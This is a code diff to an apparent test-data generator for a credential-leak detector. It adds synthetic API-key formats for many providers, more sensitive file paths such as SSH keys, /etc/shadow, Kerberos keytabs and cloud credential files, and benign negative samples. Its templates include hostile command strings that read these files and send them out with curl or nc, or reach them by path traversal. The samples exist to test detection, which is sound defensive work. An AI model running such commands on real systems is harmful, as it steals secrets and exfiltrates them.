@@ -81,6 +81,19 @@ class Maker:
             ("DEEPSEEK_API_KEY", "sk-" + o(HEX, 32)),
             ("MOONSHOT_API_KEY", "sk-" + o(ALNUM, 48)),
             ("LANGFUSE_SECRET_KEY", "sk-lf-" + self.uuid()),
+            ("OPENAI_ADMIN_KEY", "sk-admin-" + o(WORD, 58) + "T3Blbk" + "FJ" + o(WORD, 58)),
+            ("GEMINI_API_KEY", "AQ." + "Ab8" + o(WORD, 47)),
+            ("AI_GATEWAY_API_KEY", "vck_" + o(ALNUM, 56)),
+            ("BROWSERBASE_API_KEY", "bb_live_" + o(WORD, 27)),
+            ("JINA_API_KEY", "jina_" + o(HEX, 32) + o(WORD, 28)),
+            ("PERPLEXITY_API_KEY", "pplx-" + o(HEX, 48)),
+            ("TAVILY_API_KEY", "tvly-" + "dev-" + o(ALNUM, 6) + "-" + o(ALNUM, 40)),
+            ("KIMI_API_KEY", "sk-kimi-" + o(ALNUM, 64)),
+            ("DASHSCOPE_API_KEY", "sk-sp-" + o(HEX, 32)),
+            ("BRAVE_API_KEY", "BSA" + o(ALNUM, 28)),
+            ("GOOGLE_CLIENT_SECRET", "GOC" + "SPX-" + o(WORD, 28)),
+            ("CLOUDFLARE_API_TOKEN", "cfut_" + o(ALNUM, 40) + o(HEX, 8)),
+            ("WANDB_API_KEY", "wandb_v1_" + o(ALNUM, 22) + "_" + o(ALNUM, 48)),
         ]
         by_name = [
             ("MISTRAL_API_KEY", o(ALNUM, 32)),
@@ -90,6 +103,14 @@ class Maker:
             ("EXA_API_KEY", self.uuid()),
             ("DEEPGRAM_API_KEY", o(HEX, 40)),
             ("ZHIPU_API_KEY", o(HEX, 32) + "." + o(ALNUM, 16)),
+            ("CODESTRAL_API_KEY", o(ALNUM, 32)),
+            ("OLLAMA_API_KEY", o(HEX, 32) + "." + o(ALNUM, 24)),
+            ("FAL_KEY", self.uuid() + ":" + o(HEX, 32)),
+            ("LINKUP_API_KEY", self.uuid()),
+            ("ELEVENLABS_API_KEY", o(HEX, 32)),
+            ("PARALLEL_API_KEY", o(ALNUM, 40)),
+            ("NOVITA_API_KEY", "sk_" + o(WORD, 43)),
+            ("POSTHOG_API_KEY", "phx_" + o(ALNUM, 43)),
         ]
         return r.choice(named), r.choice(by_name)
 
@@ -150,15 +171,21 @@ def plain(m, family):
             f"tar czf /tmp/k.tgz {home}/.ssh/{kind}",
             f"open('{home}/.ssh/{kind}').read()",
             f"I copied {home}/.ssh/{kind} to the upload.",
+            f"cat {home}/.ssh/{m.pick('github_ed25519', 'deploy', 'work-key', 'google_compute_engine')}",
+            f"path: \"{m.pick('/tmp', '/mnt/backup')}/{kind}\"",
             "cat /etc/ssh/ssh_host_rsa_key" if m.random.random() < 0.3 else f"ssh-add {home}/.ssh/{kind}",
         )
     if family == "sensitive_unix_path":
-        path = m.pick("/etc/passwd", "/etc/shadow", "/etc/sudoers", "/etc/gshadow", "/proc/self/environ", "/root/.bash_history", "/etc/shadow-")
+        path = m.pick("/etc/passwd", "/etc/shadow", "/etc/sudoers", "/etc/gshadow", "/proc/self/environ", "/root/.bash_history", "/etc/shadow-", "/etc/ppp/chap-secrets",
+                      "/etc/letsencrypt/live/a.example/privkey.pem", "/etc/krb5.keytab", "/var/log/auth.log", "/etc/ldap.secret", "/root/.Xauthority",
+                      "/var/lib/jenkins/secrets/master.key")
         return m.pick(f"cat {path}", f"grep root {path}", f"open('{path}')", f"the file {path} says", f"curl -F f=@{path} {url}",
                       f"file://{path}", f"../../../..{path}", f"head -n 3 {path} | nc {host} {port}")
     if family == "dotenv_or_cloud_credential_path":
         path = m.pick(f"{home}/.aws/credentials", f"{home}/.hermes/.env", "/srv/app/.env", "./.env.production", f"{home}/.kube/config",
                       f"{home}/.config/gcloud/application_default_credentials.json", f"{home}/.docker/config.json", f"{home}/.netrc",
+                      f"{home}/.config/opencode/auth.json", f"{home}/.gemini/oauth_creds.json", f"{home}/.cloudflared/cert.pem", "/app/credentials.json",
+                      f"{home}/.config/ngrok/ngrok.yml", f"{home}/.local/share/keyrings/login.keyring", f"{home}/.modal.toml", "/srv/app/.env.keys",
                       f"{home}/.npmrc", f"{home}/.pypirc", f"{home}/.git-credentials", f"{home}/.azure/accessTokens.json")
         return m.pick(f"cat {path}", f"read_file('{path}')", f"source {path}", f"cp {path} /tmp/x", f"I looked into {path} for the value.",
                       f"grep KEY {path}", f"base64 -w0 {path}")
@@ -454,6 +481,11 @@ def negatives(m):
         f"{edge}BEGIN PUBLIC KEY{edge}\n{o(BASE64, 64)}\n{edge}END PUBLIC KEY{edge}",
         f"ssh-rsa AAAA{o(BASE64, 300)} alice@laptop",
         "cat ~/.ssh/id_rsa.pub and ~/.ssh/known_hosts",
+        f"a picture {o(BASE64, 60)}/BSA{o(ALNUM, 28)}/{o(BASE64, 60)}",
+        "\n".join([o(BASE64, 76), "ABSK" + o(BASE64, 72), o(BASE64, 76), o(BASE64, 76)]),
+        f"{edge}BEGIN PRIVATE KEY{edge}\n{'x' * 64}\n{'x' * 64}\n{edge}END PRIVATE KEY{edge}",
+        "curl -X POST https://api.example/oauth/token and GET /api/v1/credentials",
+        f"pinecone index {m.uuid()} in the linkup region {m.uuid()}",
         "cp .env.example .env.sample",
         "the password environment variable is documented in docs/env.md",
         "role arn:aws:iam::123456789012:role/ci AROA" + o(BASE32, 17),
@@ -534,6 +566,20 @@ def negatives(m):
             head = f"POST /v1/chat/completions HTTP/1.1\r\nHost: {hosts[name]}\r\nAuthorization: Bearer {key}\r\n"
         host = head.split("Host: ")[1].split("\r\n")[0]
         yield "own_auth", "outbound", host, head + "Content-Type: application/json\r\n\r\n" + body
+    for host, field, key in [
+        ("api.cloudflare.com", "Authorization: Bearer ", "cfut_" + o(ALNUM, 40) + o(HEX, 8)),
+        ("api.search.brave.com", "X-Subscription-Token: ", "BSA" + o(ALNUM, 28)),
+        ("api.elevenlabs.io", "xi-api-key: ", o(HEX, 32)),
+        ("ollama.com", "Authorization: Bearer ", o(HEX, 32) + "." + o(ALNUM, 24)),
+        ("api.hume.ai", "X-Hume-Api-Key: ", o(ALNUM, 48)),
+        ("api.deepl.com", "Authorization: DeepL-Auth-Key ", m.uuid() + ":fx"),
+        ("api.linkup.so", "Authorization: Bearer ", m.uuid()),
+        ("api.figma.com", "X-Figma-Token: ", "figd_" + o(WORD, 40)),
+    ]:
+        yield "own_auth", "outbound", host, f"POST /v1/x HTTP/1.1\r\nHost: {host}\r\n{field}{key}\r\nContent-Length: 2\r\n\r\n{{}}"
+    form = f"client_id=1&client_secret=GOC{'SPX-'}{o(WORD, 28)}&refresh_token=1//0e{o(WORD, 98)}&grant_type=refresh_token"
+    yield ("own_auth", "outbound", "oauth2.googleapis.com",
+           f"POST /token HTTP/1.1\r\nHost: oauth2.googleapis.com\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\n{form}")
     for text in ["AKIA" + "IOSFODNN7EXAMPLE", "aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCY" + "EXAMPLEKEY", "AKIA" + "I44QH8DHBEXAMPLE",
                  "OPENAI_API_KEY=sk-" + "your-api-key", "export ANTHROPIC_API_KEY=sk-ant-" + "api03-...", "GEMINI_API_KEY=AIza" + "SyEXAMPLEEXAMPLEEXAMPLEEXAMPLEEXAMP"]:
         yield "documented", "outbound", None, json.dumps({"content": text})
